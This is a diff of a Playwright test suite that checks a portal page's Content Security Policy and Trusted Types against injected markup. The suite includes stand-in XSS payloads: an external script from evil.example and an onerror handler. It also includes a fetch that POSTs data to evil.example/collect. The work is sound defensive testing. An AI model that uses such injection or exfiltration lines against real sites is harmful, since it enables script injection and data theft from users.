@@ -2,10 +2,18 @@ import type { Page } from 'playwright/test';
 import { expect, test } from '../fixtures.ts';
 
 const injected = `<script>window.inlineRan = true</script>
+  <script src="https://evil.example/a.js"></script>
   <img src="data:," onerror="window.handlerRan = true" hidden>`;
 
 /** Opens a page of the portal with injected markup, with its policy or without. */
 async function smuggle(page: Page, { hasPolicy }: { hasPolicy: boolean }) {
+  await page.route('https://evil.example/a.js', (route) =>
+    route.fulfill({
+      contentType: 'text/javascript',
+      headers: { 'cross-origin-resource-policy': 'cross-origin' },
+      body: 'window.foreignRan = true',
+    }),
+  );
   await page.route('**/kontak', async (route) => {
     const answer = await route.fetch();
     const headers = answer.headers();
@@ -44,46 +52,67 @@ async function frameOf(page: Page, url: string): Promise<string> {
 }
 
 function ran(page: Page) {
-  return page.evaluate(() => ['inlineRan' in window, 'handlerRan' in window]);
+  return page.evaluate(() =>
+    ['inlineRan', 'foreignRan', 'handlerRan'].map((name) => name in window),
+  );
 }
 
-test('content policy: the policy refuses a smuggled script, an inline handler and text run as code', async ({
+test('content policy: the policy refuses smuggled scripts, an inline handler and text run as code', async ({
   page,
 }) => {
   await smuggle(page, { hasPolicy: true });
-  expect(await ran(page)).toEqual([false, false]);
+  expect(await ran(page)).toEqual([false, false, false]);
   expect(await evaluatesText(page)).toBe(false);
 });
 
-test('content policy: without the policy all three would run, so the test above can fail', async ({
+test('content policy: without the policy all of them would run, so the test above can fail', async ({
   page,
 }) => {
   await smuggle(page, { hasPolicy: false });
-  expect(await ran(page)).toEqual([true, true]);
+  expect(await ran(page)).toEqual([true, true, true]);
   expect(await evaluatesText(page)).toBe(true);
 });
 
-test('content policy: the policy refuses a foreign script, a foreign frame and data sent abroad', async ({
+test('content policy: the policy refuses text as markup or script, a foreign frame and data sent abroad', async ({
   page,
 }) => {
   const asked: string[] = [];
   await page.route('https://evil.example/**', (route) => {
     asked.push(route.request().url());
-    return route.fulfill({ contentType: 'text/javascript', body: 'window.foreignRan = true' });
+    return route.fulfill({ body: '' });
   });
   await page.goto('/kontak', { waitUntil: 'networkidle' });
-  const sent = await page.evaluate(async () => {
-    const script = Object.assign(document.createElement('script'), {
-      src: 'https://evil.example/a.js',
-    });
-    const failed = new Promise((resolve) => script.addEventListener('error', resolve));
-    document.head.append(script);
-    await failed;
-    return fetch('https://evil.example/collect', { method: 'POST', body: 'data' }).then(
+  const refused = await page.evaluate(() => {
+    const attempts: Record<string, () => unknown> = {
+      'script URL': () => {
+        document.createElement('script').src = 'https://evil.example/a.js';
+      },
+      markup: () => {
+        document.body.innerHTML = '<b>Promosi</b>';
+      },
+      'script text': () => {
+        document.createElement('script').textContent = 'window.foreignRan = true';
+      },
+      'another policy': () => Object(window).trustedTypes.createPolicy('own', {}),
+    };
+    return Object.entries(attempts)
+      .filter(([, attempt]) => {
+        try {
+          attempt();
+          return false;
+        } catch {
+          return true;
+        }
+      })
+      .map(([name]) => name);
+  });
+  expect(refused).toEqual(['script URL', 'markup', 'script text', 'another policy']);
+  const sent = await page.evaluate(() =>
+    fetch('https://evil.example/collect', { method: 'POST', body: 'data' }).then(
       () => true,
       () => false,
-    );
-  });
+    ),
+  );
   expect(sent).toBe(false);
   await frameOf(page, 'https://evil.example/frame');
   expect(asked).toEqual([]);
